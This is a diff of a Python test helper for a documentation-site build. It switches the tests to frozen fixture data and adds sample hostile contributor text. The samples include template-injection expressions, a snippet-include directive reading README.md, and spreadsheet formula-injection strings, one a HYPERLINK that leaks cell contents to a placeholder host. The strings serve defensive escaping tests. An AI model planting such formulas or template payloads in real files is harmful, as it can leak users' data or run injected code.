@@ -85,6 +85,17 @@ class FakeLinks:
         return f"Title of {page}"
 
 
+# Text a hostile contributor might write where text goes (conftest's ``hostile_site`` build).
+HOSTILE = 'p99 < 50 ms | {{ 7*7 }} {% if true %}x{% endif %} & --8<-- "README.md" *not bold*'
+HOSTILE_TITLE = "Perf < fast | {{ 1+1 }} *x*"
+FORMULAS = ['=HYPERLINK("https://example.invalid/?leak="&A1,"More")', "+1 to the other", "-1 against it", "@SUM(A1:A9)"]
+
+
+def quoted(text: str) -> str:
+    """``text`` as a single-quoted YAML scalar."""
+    return "'" + text.replace("'", "''") + "'"
+
+
 # --- a browser cut off from other hosts ----------------------------------------------------------
 
 
@@ -226,10 +237,18 @@ def settle(page, scheme: str):
 # --- a copy of the data with one change ------------------------------------------------------------
 
 
+FIXTURES = ROOT / "tests" / "fixtures"
+
+
 class DataCopy:
+    """A copy of the fixture data set (tests/fixtures/: data/ frozen for these tests, and a stand-in
+    for each page it names) for a test to change: the real data can change without breaking a test
+    that asserts a line and a message."""
+
     def __init__(self, tmp_path: Path):
         self.root = tmp_path
-        shutil.copytree(ROOT / "data", tmp_path / "data")
+        shutil.copytree(FIXTURES / "data", tmp_path / "data")
+        shutil.copytree(FIXTURES / "docs", tmp_path / "docs")
 
     def edit(self, file: str, old: str, new: str, count: int = 1) -> int:
         """Replace the first ``count`` occurrences; return the 1-based line of the first new text."""
@@ -248,7 +267,7 @@ class DataCopy:
         return text[:index].count("\n") + 1
 
     def problems(self, today: dt.date = TODAY):
-        guide, problems = check_data(self.root / "data", ROOT / "docs", today=today, display_root=self.root)
+        guide, problems = check_data(self.root / "data", self.root / "docs", today=today, display_root=self.root)
         return guide, problems
 
     def messages(self, today: dt.date = TODAY) -> list[str]:
